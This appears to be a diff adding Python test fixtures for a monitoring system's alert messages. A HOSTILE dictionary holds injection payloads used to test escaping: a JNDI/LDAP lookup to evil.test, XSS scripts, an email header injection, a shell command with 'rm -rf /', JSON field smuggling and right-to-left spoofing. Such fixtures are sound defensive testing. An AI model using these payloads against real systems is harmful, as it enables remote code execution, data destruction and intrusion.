@@ -1,0 +1,118 @@
+"""Messages for tests, each complete, each field open to change, and names that try to be more than names."""
+
+from dataclasses import replace
+from datetime import timedelta
+from typing import Any
+
+from factories import SLOT, transition
+from monitor.model import (
+    Briefing,
+    Cause,
+    Change,
+    ExampleLists,
+    Explanation,
+    ExposedItem,
+    Message,
+    Part,
+    Severity,
+    State,
+    Transition,
+    UserGroup,
+)
+
+WHY = "62 % of the drop: everywhere, 12 items left their lists; order 38 %."
+INCIDENT = "home-feed:critical:2024-01-08"
+HOSTILE = {
+    "template": "{{ .Labels }}${jndi:ldap://evil.test/a}%(x)s{0}",
+    "mention": "<!channel><!here><@U0001><#C0001><!subteam^S1> @channel @here @everyone",
+    "link": "<https://evil.test|runbook> [x](https://evil.test) https://evil.test/?q=1 javascript:alert(1)",
+    "html": "</td><script>alert(1)</script><img src=x onerror=alert(1)>&amp;\"'",
+    "header": "x\r\nBcc: evil@evil.test\r\n\r\nbody",
+    "shell": "$(rm -rf /); `id` && 'x' | \"y\" \\",
+    "fence": "``` *bold* _it_ ~no~ `code` > quote\n```",
+    "controls": "a\x00b\x1b[31mc\x7f\x85d\u2028e\ud800f",
+    "right to left": "\u202egnp.exe\u2066\u05d0\u05d1\u05d2 0.99 \u0645\u0631\u062d\u0628\u0627 1 < 2",
+    "json": '","routing_key":"evil","x":"',
+    "huge": "x" * 1_000_000,
+    "wide": "\U0001f600" * 250_000,
+}
+
+
+def start(**changes: Any) -> Transition:
+    """`SimilarityLow` begins to fire for everybody."""
+    return transition(**{"explanation": WHY, "interval": (0.24, 0.268), "normal": 0.61, "incident": INCIDENT, **changes})
+
+
+def end(**changes: Any) -> Transition:
+    """The same firing is over a day later."""
+    later = {"slot": SLOT + timedelta(days=1), "at": SLOT + timedelta(days=1, seconds=5), "since": SLOT - timedelta(days=1)}
+    said = {"from_state": State.FIRING, "to_state": State.QUIET, "value": 0.6, "reason": "mean of extended_tau is 0.6 again"}
+    return start(**{"explanation": None, "interval": None, **later, **said, **changes})
+
+
+def acknowledgement(**changes: Any) -> Transition:
+    return start(**{"explanation": None, "from_state": State.FIRING, "reason": "acknowledged by ann: looking", **changes})
+
+
+def message(*changes: Transition, **fields: Any) -> Message:
+    """What tells these changes; what starts in it fires on, if nothing else is said."""
+    firing = tuple(change for change in changes if not change.is_end)
+    base = Message(incident=INCIDENT, comparison="home-feed", severity=Severity.CRITICAL, changes=changes, firing=firing)
+    return replace(base, **fields)
+
+
+def repetition(*firing: Transition, **fields: Any) -> Message:
+    return message(firing=firing, is_repetition=True, **fields)
+
+
+def many(count: int, **changes: Any) -> tuple[Transition, ...]:
+    """That many segments begin to fire in one run."""
+    return tuple(start(segment=f"shop={n:04d}", value=0.3 - n / 10_000, dedup_key=f"{n:032x}", **changes) for n in range(count))
+
+
+def explanation(**changes: Any) -> Explanation:
+    base = Explanation(
+        metric="extended_tau",
+        runs=9,
+        sentence=WHY,
+        segment="all",
+        now=0.5,
+        before=0.25,
+        least=0.24,
+        most=0.31,
+        gained=(ExposedItem(item="sku-1", title="Red shoes", before=0.1, after=0.7, share_before=0.03, share_after=0.61),),
+        lost=(ExposedItem(item="sku-2", title=None, before=0.7, after=0.0, share_before=0.7, share_after=0.0),),
+        entered=14,
+        left=1,
+        groups=(),
+        causes=(
+            Cause(part=Part.MEMBERSHIP, amount=0.1, segment="country=UK"),
+            Cause(part=Part.MEMBERSHIP, amount=0.055, segment="country=UK", is_rest=True),
+            Cause(part=Part.ORDER, amount=0.095),
+        ),
+    )
+    return replace(base, **changes)
+
+
+def briefing(**changes: Any) -> Briefing:
+    """The explanation, and two users of different groups."""
+    examples = (
+        ExampleLists(
+            user="u-17",
+            baseline=("sku-2", "sku-3", "sku-5", "sku-4", "sku-6"),
+            candidate=("sku-1", "sku-3", "sku-4", "sku-5"),
+        ),
+        ExampleLists(user="u-42", baseline=tuple(f"i{n}" for n in range(12)), candidate=tuple(f"j{n}" for n in range(10))),
+    )
+    return replace(Briefing(explanation=explanation(), examples=examples), **changes)
+
+
+def hostile_message(text: str) -> Message:
+    """Everything that comes from outside says ``text``, and so do names that the configuration would not take."""
+    item = ExposedItem(item=text, title=text, before=0.1, after=0.7, share_before=0.03, share_after=0.61)
+    lists = ExampleLists(user=text, baseline=(text, "b"), candidate=(text,))
+    group = UserGroup(change=Change.REPLACED, users=1, share=1.0, share_before=None, distance=0.5, examples=(lists,))
+    told = explanation(sentence=text, segment=text, gained=(item,), lost=(item,), groups=(group,), metric=text)
+    names = {"comparison": text, "alert": text, "segment": text, "reason": text, "metric": text, "statistic": text}
+    change = start(**names, explanation=text, runbook_url=text, labels={"team": text})
+    return message(change, comparison=text, briefing=Briefing(explanation=told, examples=(lists, lists)))
